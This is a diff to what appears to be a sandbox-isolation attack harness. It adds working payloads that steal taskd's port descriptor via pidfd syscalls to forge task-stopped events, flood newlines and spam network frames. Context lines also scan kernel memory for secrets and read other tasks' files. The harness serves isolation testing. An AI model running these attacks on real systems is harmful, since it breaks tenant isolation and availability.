@@ -1,5 +1,4 @@
 import { root } from "../../../harness/attacks/attack.ts";
-import { FIND_PORT } from "../agent/scripts.ts";
 
 /** Where something could be put that is nobody's own: in the roots of the exports, and between these and what is shown there. */
 const EXPORTS = "/run/piwork/workspace /run/piwork/tasks /run/piwork/tasks/*";
@@ -15,22 +14,37 @@ for $i (0 .. $n - 1) { sysseek(K, $at + $i * $size, 0); sysread(K, $p, 56); ($ty
 next if $type != 1 || $physical > 2 ** 32 || $bytes > 2 ** 31;
 for ($o = 0; $o < $bytes; $o += 2 ** 21) { sysseek(K, $offset + $o, 0); sysread(K, $b, 2 ** 21 + 64) or next; print "$1\\n" while $b =~ /marked[ ]secret[ ]([0-9a-f]{16})/g } }'`;
 
-/**
- * Takes the port of taskd out of its hands and tells the runtime what became of another task. The numbers of events before the next
- * are passed over, so no number has to be known.
- */
-const FORGE = `${FIND_PORT}; python3 -I -S -c '
-import ctypes, json, os, subprocess, sys
+/** Takes a port of taskd out of its hands, and says on it what the lines of python put into `said`. */
+const inPlaceOfTaskd = (port: "piwork.taskd" | "piwork.network", lines: string) => `python3 -I -S -c '
+import ctypes, glob, json, os, subprocess
 libc = ctypes.CDLL(None)
 taskd = int(subprocess.check_output(["pgrep", "-o", "-f", "taskd[.]mjs"]))
-port = next(int(fd) for fd in os.listdir(f"/proc/{taskd}/fd") if os.readlink(f"/proc/{taskd}/fd/{fd}") == sys.argv[1])
+names = {open(path).read().strip(): path.split("/")[-2] for path in glob.glob("/sys/class/virtio-ports/*/name")}
+port = next(int(fd) for fd in os.listdir(f"/proc/{taskd}/fd") if os.readlink(f"/proc/{taskd}/fd/{fd}") == "/dev/" + names["${port}"])
 mine = libc.syscall(438, libc.syscall(434, taskd, 0), port, 0)
 os.set_blocking(mine, True)
-words = {"type": "event", "event": "task_stopped", "timestamp": 1, "taskId": os.environ["VICTIM"], "payload": {}}
-said = "".join(json.dumps({**words, "seq": number}) + chr(10) for number in range(1, 3000)).encode()
+${lines}
 for at in range(0, len(said), 16384):
     os.write(mine, said[at : at + 16384])
-' "$p"; sleep 1`;
+'; sleep 1`;
+
+/** Tells what became of another task. The numbers of events before the next are passed over, so no number has to be known. */
+const FORGE = inPlaceOfTaskd(
+  "piwork.taskd",
+  `words = {"type": "event", "event": "task_stopped", "timestamp": 1, "taskId": os.environ["VICTIM"], "payload": {}}
+said = "".join(json.dumps({**words, "seq": number}) + chr(10) for number in range(1, 3000)).encode()`,
+);
+
+/** Each of these ends the machine that says it; before, the runtime has to take it in. */
+const NEWLINES = inPlaceOfTaskd("piwork.taskd", "said = bytes([10]) * 2**20");
+/** The numbers are far from those of taskd; the last stream is opened twice. */
+const FRAMES = inPlaceOfTaskd(
+  "piwork.network",
+  `def frame(kind, stream, payload = b""):
+    return bytes([kind]) + len(payload).to_bytes(3, "big") + (0x70000000 + stream).to_bytes(4, "big") + payload
+task = os.environ["ATTACKER"].encode()
+said = b"".join(frame(2, stream, task) + frame(5, stream) for stream in range(20000)) + frame(2, 19999, task)`,
+);
 
 /**
  * What the root of a machine tries that only one task is in. The control is the same root in a machine that all tasks are in. So
@@ -162,6 +176,18 @@ cat /tmp/m/other/secret.txt /tmp/m/../other/secret.txt /tmp/m/victim*/guest/outp
       "forged",
       "tells the runtime, in the place of taskd, that another task was stopped",
       FORGE,
+      { oracle: "record", alone: true, ruinous: true, deadlineMs: 20_000 },
+    ],
+    [
+      "newlines",
+      "says newlines to the runtime, a million of them, in the place of taskd",
+      NEWLINES,
+      { oracle: "record", alone: true, ruinous: true, deadlineMs: 20_000 },
+    ],
+    [
+      "frames",
+      "opens and resets connections to its network, twenty thousand, in the place of taskd",
+      FRAMES,
       { oracle: "record", alone: true, ruinous: true, deadlineMs: 20_000 },
     ],
   ]),
